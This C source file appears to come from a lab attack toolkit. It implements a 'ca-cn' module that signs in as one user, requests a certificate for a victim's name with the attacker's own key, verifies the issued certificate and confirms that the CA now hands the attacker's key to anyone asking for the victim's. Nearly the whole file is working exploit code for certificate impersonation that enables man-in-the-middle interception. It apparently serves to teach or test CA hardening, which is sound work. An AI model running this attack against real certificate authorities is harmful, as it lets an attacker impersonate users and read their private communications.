/*
 * ca-cn: the CA signs any name (seed 004).  Signed in as herself, mallory
 * sends a request for CN=bob with her own key; the faithful CA issues it
 * and files it as bob's, so that whoever asks the CA for bob's
 * certificate gets mallory's key, checked and valid.  pk-mitm -k then
 * reads the peer chat meant for bob (mitm/ca_active.c).  The hardened CA
 * issues a certificate only for the signed-in user's name.
 */
#include <err.h>
#include <getopt.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#include <nettle/bignum.h>

#include "ca.h"
#include "key.h"
#include "secret.h"

static const struct option longopts[] = {
    CA_WHO_OPTIONS,
    {"ca", required_argument, NULL, 'C'},
    {"cn", required_argument, NULL, 'n'},
    {"key", required_argument, NULL, 'k'},
    {NULL, 0, NULL, 0},
};

struct cn {
	struct ca_who w;
	const char *victim, *keyfile, *cafile;
	struct key_rsa k;
	uint8_t der[X509_DER_MAX], pem[X509_PEM_MAX];
	size_t derlen, pemlen;
};

/* A request for CN=victim with the attacker's key, as PEM in a->pem. */
static void
request(struct cn *a)
{
	uint8_t name[X509_NAME_MAX];
	char subj[X509_CN_MAX + 5];
	size_t namelen;
	int rv;

	snprintf(subj, sizeof(subj), "/CN=%s", a->victim);
	if ((rv = x509_name_from_subj(subj, name, sizeof(name), &namelen)) !=
		X509_OK ||
	    (rv = x509_csr_write(&a->k, name, namelen, 0, a->der,
		 sizeof(a->der), &a->derlen)) != X509_OK ||
	    (rv = x509_pem_write(a->der, a->derlen, 1, a->pem, sizeof(a->pem),
		 &a->pemlen)) != X509_OK)
		errx(2, "a request for %s: %s", subj, x509_strerror(rv));
}

/* The certificate answered: CN=victim, the attacker's key, the CA's. */
static int
issued(struct cn *a, const char *text, size_t len)
{
	struct x509_cert c, root;
	static uint8_t rootder[X509_DER_MAX];
	size_t rootlen;
	int rv, ok;

	if (x509_der_from_text((const uint8_t *)text, len, 0, a->der,
		sizeof(a->der), &a->derlen) != X509_OK ||
	    (rv = x509_cert_parse(&c, a->der, a->derlen)) != X509_OK) {
		attack_progress("CSR for CN=%s: \"%.80s\"", a->victim, text);
		return 0;
	}
	ok = strcmp(c.subject.cn, a->victim) == 0 &&
	    mpz_cmp(c.pub.n, a->k.pub.n) == 0;
	attack_progress("CSR for CN=%s: a certificate for CN=%s, %s key",
	    a->victim, c.subject.cn, ok ? "the attacker's" : "another");
	if (ok && a->cafile != NULL) {
		ca_cert_read(a->cafile, rootder, &rootlen);
		if (x509_cert_parse(&root, rootder, rootlen) != X509_OK)
			errx(2, "%s: not a certificate", a->cafile);
		rv = x509_cert_verify(&c, &root, time(NULL));
		attack_progress("verified against %s: %s", a->cafile,
		    rv == X509_OK ? "OK" : x509_strerror(rv));
		ok = rv == X509_OK;
		x509_cert_clear(&root);
	}
	x509_cert_clear(&c);
	return ok;
}

static int
attack(struct cn *a)
{
	static struct ca_conn c;
	static uint8_t der[X509_DER_MAX];
	size_t derlen;
	int ok;

	request(a);
	ca_who_signin(&a->w, &c);
	attack_progress("signed in as %s; CSR for CN=%s with %s", a->w.user,
	    a->victim, a->keyfile);
	if (ca_ask(&c, CA_CSR, a->w.user, a->pem, a->pemlen) == -1)
		errx(2, "%s: closed before the answer to the CSR", a->w.addr);
	ok = issued(a, c.msg, c.len);
	if (ok &&
	    (size_t)snprintf((char *)a->pem, sizeof(a->pem), "%s", c.msg) !=
		c.len)
		errx(2, "%s: a certificate too long", a->w.addr);
	ca_close(&c);
	if (!ok) {
		attack_progress("no certificate for %s with this key: nothing"
				" recovered",
		    a->victim);
		attack_stats(1, 0);
		return 1;
	}
	if (ca_fetch(&a->w, a->victim, der, &derlen) == 0)
		attack_progress("CERTREQ %s: %s", a->victim,
		    derlen == a->derlen && memcmp(der, a->der, derlen) == 0
			? "this certificate: anyone who asks gets the"
			  " attacker's key"
			: "another certificate");
	attack_stats(2, c.len);
	attack_output(a->pem, c.len);
	return 0;
}

static int
ca_cn_main(int argc, char *argv[])
{
	static struct cn a;
	char msg[512];
	int ch, rv;

	while ((ch = attack_getopt(argc, argv, "k:u:", longopts)) != -1)
		if (ch == 'C')
			a.cafile = optarg;
		else if (ch == 'k')
			a.keyfile = optarg;
		else if (ch == 'n' && x509_cn_safe(optarg))
			a.victim = optarg;
		else if (ch == 'n')
			errx(2, "--cn %s: not a user name", optarg);
		else
			(void)ca_who_option(&a.w, ch, optarg);
	argc -= optind;
	argv += optind;
	if (argc != 1 || a.keyfile == NULL || a.victim == NULL ||
	    a.w.user == NULL || a.w.passlen == 0)
		attack_usage();
	a.w.addr = argv[0];
	secret_gmp_init();
	key_init(&a.k);
	if ((rv = key_load(&a.k, a.keyfile, NULL, 1)) != KEY_OK) {
		key_load_msg(rv, a.keyfile, NULL, msg, sizeof(msg));
		key_clear(&a.k);
		errx(2, "%s", msg);
	}
	rv = attack(&a);
	key_clear(&a.k);
	secret_wipe(a.w.pass, sizeof(a.w.pass));
	return rv;
}

const struct attack attack_ca_cn = {
    "ca-cn",
    "-u user --pass-file file -k key --cn victim [--ca ca.crt] host:port",
    "ca: the CA signs any name: a certificate for the victim's name with"
    " the attacker's key",
    CA_WHO_HELP
    "  -k, --key file     the attacker's private key (not encrypted)\n"
    "  --cn victim        the name to have certified: the certificate the\n"
    "                     CA issues is written (PEM)\n"
    "  --ca ca.crt        check the certificate against the CA's, as the\n"
    "                     victim's client does\n"
    "  host:port          the CA (pk-relay's ca service)\n",
    ca_cn_main,
};
